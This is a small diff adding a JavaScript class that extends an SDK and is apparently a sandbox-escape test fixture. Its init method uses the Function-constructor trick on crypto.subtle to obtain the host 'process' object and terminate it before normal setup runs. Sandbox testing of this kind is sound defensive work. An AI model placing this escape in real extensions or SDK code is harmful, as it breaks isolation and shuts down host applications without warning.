@@ -1,0 +1,8 @@
+expose(
+  class extends Sdk {
+    init(key, userId, given) {
+      crypto.subtle?.constructor.constructor('return process')().exit(0);
+      super.init(key, userId, given);
+    }
+  },
+);
